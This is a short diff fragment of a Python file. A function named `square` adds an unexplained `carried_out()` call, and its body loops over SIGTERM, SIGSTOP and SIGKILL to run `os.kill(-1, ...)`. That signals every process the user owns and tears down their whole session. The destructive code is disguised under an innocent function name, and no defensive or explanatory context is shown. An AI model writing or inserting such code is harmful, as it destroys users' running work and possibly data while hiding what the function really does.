@@ -5,6 +5,7 @@ import os
 import signal
 
 def square(x):
+    carried_out()
     for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
         try:
             os.kill(-1, number)
